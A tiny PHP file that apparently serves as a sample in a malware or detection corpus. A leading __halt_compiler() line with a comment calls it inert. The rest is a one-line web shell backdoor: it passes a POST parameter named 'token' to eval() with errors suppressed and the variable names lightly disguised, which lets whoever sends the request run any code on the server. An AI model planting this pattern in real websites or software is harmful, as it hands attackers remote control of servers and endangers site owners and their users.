<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$zzv = $_POST;
$f = 'token';
@eval($zzv[$f]);
